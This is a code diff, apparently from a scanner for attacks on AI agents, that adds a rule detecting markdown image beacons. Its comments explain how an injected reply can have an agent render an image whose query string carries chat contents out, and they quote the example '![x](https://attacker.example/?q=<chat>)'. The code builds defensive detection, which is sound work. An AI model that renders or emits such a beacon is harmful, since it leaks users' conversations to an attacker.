@@ -67,11 +67,32 @@ static READER: Lazy = LazyLock::new(|| {
     )
 });
 
+/// An image beacon shown as an example of an attack ("a page asking the
+/// bot to render `![x](https://attacker.example/?q=<chat>)`") is worth a
+/// look, not a refusal.
+fn beacon(h: &Hit<'_>) -> Option<Severity> {
+    let line = [h.before(), h.tail()].concat();
+    Some(if super::instruction::talks_about_attacks(&line) { Severity::Low } else { h.base })
+}
+
 /// The line rules of this family.
 pub(super) fn rules() -> Vec<Rule> {
     use Category::{CredentialAccess as A, Exfiltration as X};
     use Severity::*;
     vec![
+        // A markdown image the reader's client loads by itself, whose query
+        // string the agent is to fill in: whatever goes in the blank leaves
+        // with the request, unseen (the zero-click channel of an injected
+        // reply). A badge's fixed URL has no blank.
+        Rule::new(
+            "exfil.image-beacon",
+            X,
+            High,
+            &["!["],
+            r"!\[[^\]\n]*\]\(\s*<?https?://[^\s)>]*[?&][^\s)>=]*=(?:[^\s)>&]*)(?:\{\{?\s*[a-z_][\w .|-]*\}|<[a-z_][\w-]*>|\$\{?[a-z_]\w*|%s|\[[a-z_][\w ]*\])",
+        )
+        .assess(beacon)
+        .explainable(),
         Rule::new("cred.secret-file", A, High, SECRET_TRIGGERS, format!("{SECRET_PATHS}|{LESSER_PATHS}"))
             .assess(secret_file)
             .warnable(),
